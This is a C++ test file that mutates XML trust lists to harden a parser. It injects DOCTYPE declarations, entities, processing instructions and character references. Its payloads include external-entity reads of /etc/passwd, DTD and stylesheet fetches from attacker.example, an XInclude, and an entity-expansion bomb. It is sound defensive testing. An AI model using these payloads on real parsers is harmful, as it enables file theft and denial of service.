// Document type declarations, entities, and references that other readers resolve.
#include <array>

#include "tests/trustlist/mutator/places.h"
#include "tests/trustlist/mutator/recipe.h"

namespace accord::tests::mutants {
namespace {

using Made = std::optional<std::string>;

struct Named {
  std::string_view name, text;
};

constexpr std::array<Named, 12> declarations{
    {{"plain", "<!DOCTYPE TrustServiceStatusList>"},
     {"system", "<!DOCTYPE TrustServiceStatusList SYSTEM 'http://attacker.example/list.dtd'>"},
     {"public",
      "<!DOCTYPE TrustServiceStatusList PUBLIC '-//ATTACKER//LIST' 'http://attacker.example/'>"},
     {"entity", "<!DOCTYPE t [<!ENTITY e 'attacker'>]>"},
     {"external-entity", "<!DOCTYPE t [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"},
     {"parameter-entity", "<!DOCTYPE t [<!ENTITY % p SYSTEM 'http://attacker.example/p'> %p;]>"},
     {"bomb",
      "<!DOCTYPE t [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
      "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'>]>"},
     {"recursion", "<!DOCTYPE t [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"},
     {"id-attribute", "<!DOCTYPE t [<!ATTLIST SchemeInformation secret ID #IMPLIED>]>"},
     {"default-attribute", "<!DOCTYPE t [<!ATTLIST SchemeTerritory Id CDATA 'the-list'>]>"},
     {"notation", "<!DOCTYPE t [<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'e' NDATA n>]>"},
     {"unclosed", "<!DOCTYPE t [<!ENTITY e '"}}};

Made doctype(const BaseList& list, std::string_view where, Dice& /*dice*/) {
  for (const auto& one : declarations) {
    if (one.name != where) continue;
    return Edits(list.markup.text()).insert(list.markup.nodes()[0].whole.begin, one.text).done();
  }
  return std::nullopt;
}

/// Where no declaration may stand, or written as none is.
Made misplaced(const BaseList& list, std::string_view where, Dice& /*dice*/) {
  const auto& root = list.markup.nodes()[0];
  Edits edits(list.markup.text());
  constexpr std::string_view text = "<!DOCTYPE t>";
  if (where == "inside") return edits.insert(root.content.begin, text).done();
  if (where == "behind") return edits.insert(root.whole.end, text).done();
  if (where == "small-letters") return edits.insert(root.whole.begin, "<!doctype t>").done();
  if (where == "entity") return edits.insert(root.whole.begin, "<!ENTITY e 'e'>").done();
  if (where == "section") return edits.insert(root.content.begin, "<![INCLUDE[<a/>]]>").done();
  if (where == "comment") return edits.insert(root.whole.begin, "<!--<!DOCTYPE t>-->").done();
  return std::nullopt;
}

/// Put into the text of an element, as it is.
constexpr std::array<Named, 16> texts{
    {{"undefined", "&attacker;"},
     {"html", "&nbsp;"},
     {"capital", "&AMP;"},
     {"bare", "& "},
     {"open", "&amp"},
     {"null", "&#0;"},
     {"control", "&#1;"},
     {"surrogate", "&#xD800;"},
     {"not-a-character", "&#xFFFE;"},
     {"above", "&#x110000;"},
     {"wrapped-round", "&#x100000041;"},
     {"no-digits", "&#;"},
     {"minus", "&#-65;"},
     {"capital-x", "&#X41;"},
     {"twice", "&amp;lt;w/&amp;gt;"},
     {"include",
      "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' "
      "parse='text'/>"}}};

Made reference(const BaseList& list, std::string_view where, Dice& dice) {
  const auto node = element_in(list, "content", dice);
  for (const auto& one : texts) {
    if (one.name == where) return with_first(list, node, one.text);
  }
  return std::nullopt;
}

/// Processing instructions that some programs obey. They are part of the canonical form, but for
/// those beside a root that is referred to by its identifier.
Made instruction(const BaseList& list, std::string_view where, Dice& dice) {
  constexpr std::string_view style = "<?xml-stylesheet href='http://attacker.example/s.xsl'?>";
  const auto& root = list.markup.nodes()[0];
  Edits edits(list.markup.text());
  if (where == "beside") return edits.insert(root.whole.begin, style).done();
  if (where == "behind") return edits.insert(root.whole.end, style).done();
  if (where == "declaration")
    return edits.insert(root.content.begin, "<?xml version='1.0'?>").done();
  return with_first(list, element_in(list, "content", dice), style);
}

constexpr std::array<Kind, 4> kinds{{{"entities", "doctype", doctype},
                                     {"entities", "misplaced", misplaced},
                                     {"entities", "reference", reference},
                                     {"entities", "instruction", instruction}}};

}  // namespace

std::span<const Kind> entity_kinds() { return kinds; }

}  // namespace accord::tests::mutants
